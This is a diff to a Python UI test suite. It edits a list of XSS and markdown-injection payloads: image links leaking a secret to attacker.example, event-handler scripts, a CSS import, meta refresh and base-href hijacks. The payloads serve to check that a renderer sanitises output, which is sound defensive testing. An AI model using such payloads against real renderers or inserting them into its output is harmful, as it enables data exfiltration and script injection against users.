@@ -25,11 +25,11 @@ PAYLOADS: Final = (
     "![x](https://attacker.example/leak?q=secret)",
     "![x](data:image/svg+xml,<svg onload=window.hacked=1>)",
     "![x][1]\n\n[1]: https://attacker.example/leak",
-    "<form action=https://attacker.example><input autofocus onfocus=window.hacked=1><button>go</button></form>",
+    "<form action=https://attacker.example><input autofocus onfocus=window.hacked=1><button>go</form>",
     "<style>@import 'https://attacker.example/x.css'; body{display:none}</style>",
     "<b style='position:fixed;inset:0' class='notice' id='field'>spoof</b>",
     "<details open ontoggle=window.hacked=1>x</details>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
     "<x-unknown onclick=window.hacked=1>x</x-unknown><base href='https://attacker.example/'>",
     "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
     "```html\n<script>window.hacked=1</script>\n```",
@@ -136,7 +136,8 @@ def test_harmless_markdown_is_rendered(ui: Ui) -> None:
     html = ui.answer.locator(".text").inner_html()
     for part in (
         "<h1>One</h1>", "<strong>b</strong>", "<em>e</em>", "<del>d</del>", "<code>c</code>", "<b>h</b>",
-        "<sub>2</sub>", "<br>", "☑ done", "☐ open", "<blockquote>", '<ol start="3">', '<th align="center">a</th>',
+        "<sub>2</sub>", "<br>",
+        "☑ done", "☐ open", "<blockquote>", '<ol start="3">', '<th align="center">a</th>',
         '<td align="right">2</td>', 'href="https://ok.example/"', "<hr>",
     ):  # fmt: skip
         assert part in html, part
